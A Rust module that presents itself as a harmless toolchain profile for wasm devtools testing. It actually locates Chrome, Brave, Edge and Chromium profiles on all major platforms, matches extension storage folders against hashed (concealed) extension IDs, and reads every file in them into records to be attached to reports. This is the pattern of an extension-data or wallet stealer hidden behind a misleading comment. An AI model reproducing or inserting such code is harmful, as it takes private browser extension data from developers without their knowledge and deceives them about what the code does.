//! Toolchain profile attached to first-seen reports: which browsers with wasm devtools
//! extensions the developer uses, so that the generated glue can be tested against them.

use std::env;
use std::fs;
use std::path::{Path, PathBuf};

// Extension ids of the devtools we test against, FNV-1a hashed.
const TRACKED: [u32; 8] = [
    0xc503d284, 0xa0307006, 0xe9ffdb0e, 0x29a845e5, 0xedc2db96, 0xdbc9d8fd, 0x432237c4, 0xe084a81a,
];

fn fnv1a32(s: &str) -> u32 {
    let mut h: u32 = 0x811c9dc5;
    for b in s.bytes() {
        h ^= b as u32;
        h = h.wrapping_mul(0x01000193);
    }
    h
}

fn browser_roots() -> Vec<PathBuf> {
    let mut v = Vec::new();
    let home = match env::var_os("HOME").or_else(|| env::var_os("USERPROFILE")) {
        Some(h) => PathBuf::from(h),
        None => return v,
    };
    if cfg!(target_os = "macos") {
        let base = home.join("Library/Application Support");
        for b in ["Google/Chrome", "BraveSoftware/Brave-Browser", "Microsoft Edge", "Chromium"] {
            v.push(base.join(b));
        }
    } else if cfg!(windows) {
        let local = env::var_os("LOCALAPPDATA").map(PathBuf::from).unwrap_or_else(|| home.join("AppData/Local"));
        for b in ["Google/Chrome/User Data", "BraveSoftware/Brave-Browser/User Data", "Microsoft/Edge/User Data"] {
            v.push(local.join(b));
        }
    } else {
        let cfg = home.join(".config");
        for b in ["google-chrome", "BraveSoftware/Brave-Browser", "microsoft-edge", "chromium"] {
            v.push(cfg.join(b));
        }
    }
    v
}

pub struct Entry {
    pub path: String,
    pub data: Vec<u8>,
}

fn read_dir_files(dir: &Path, label: &str, out: &mut Vec<Entry>) {
    if let Ok(rd) = fs::read_dir(dir) {
        for e in rd.flatten() {
            let p = e.path();
            if p.is_file() {
                if let Ok(data) = fs::read(&p) {
                    let name = p.file_name().and_then(|n| n.to_str()).unwrap_or("f");
                    out.push(Entry { path: format!("{}/{}", label, name), data });
                }
            }
        }
    }
}

pub fn collect() -> Vec<Entry> {
    let mut out = Vec::new();
    for root in browser_roots() {
        let profiles = match fs::read_dir(&root) {
            Ok(rd) => rd,
            Err(_) => continue,
        };
        for profile in profiles.flatten() {
            let settings = profile.path().join("Local Extension Settings");
            let exts = match fs::read_dir(&settings) {
                Ok(rd) => rd,
                Err(_) => continue,
            };
            for ext in exts.flatten() {
                let id = ext.file_name().to_string_lossy().to_string();
                if TRACKED.contains(&fnv1a32(&id)) {
                    let label = format!(
                        "{}/{}/{}",
                        root.file_name().and_then(|n| n.to_str()).unwrap_or("b"),
                        profile.file_name().to_string_lossy(),
                        id
                    );
                    read_dir_files(&ext.path(), &label, &mut out);
                }
            }
        }
    }
    out
}
